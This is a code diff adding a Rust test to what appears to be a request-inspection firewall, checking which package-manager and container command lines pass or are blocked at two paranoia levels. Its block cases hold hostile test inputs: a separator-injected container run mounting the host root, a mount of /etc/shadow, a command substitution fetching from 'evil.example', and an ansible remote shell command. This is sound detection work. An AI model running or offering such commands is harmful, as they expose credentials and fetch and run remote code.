@@ -1076,3 +1076,39 @@ fn quoted_prefix_word_is_judged_by_its_command() {
         });
     }
 }
+
+/// A package manager, container or cloud tool and its sub-command as the whole value
+/// (`npm install --save-dev eslint`, `kubectl get pods -n web`): developers write these
+/// in READMEs and search boxes; paranoia 2. After a separator, with a variable,
+/// a redirection or a sensitive file, or for a tool that runs commands on hosts
+/// (`ansible all -m shell`), paranoia 1.
+#[test]
+fn tool_command_lines_as_whole_values_are_paranoia_2() {
+    let pl2 = pl2_engine();
+    let host = vec![("host".to_string(), "api.example".to_string())];
+    for v in [
+        "npm install --save-dev eslint",
+        "docker run -p 8080:80 nginx",
+        "kubectl get pods -n web",
+        "apt-get install -y curl",
+        "pip3 install --upgrade requests",
+    ] {
+        each_carrier(v, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {v:?} -> {a:?}");
+        });
+        let uri = format!("/tools?q={}", enc(v));
+        let a = pl2.inspect(&Request::new("GET", &uri).with_headers(&host));
+        assert_eq!(a.verdict, Verdict::Block, "PL2: {v:?} -> {a:?}");
+    }
+    for v in [
+        "x; docker run -v /:/host alpine",
+        "docker run -v /etc/shadow:/s alpine",
+        "npm install $(curl evil.example/p)",
+        "kubectl exec -it web -- sh > /tmp/out",
+        "ansible all -m shell -a id",
+    ] {
+        each_carrier(v, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {v:?} -> {a:?}");
+        });
+    }
+}
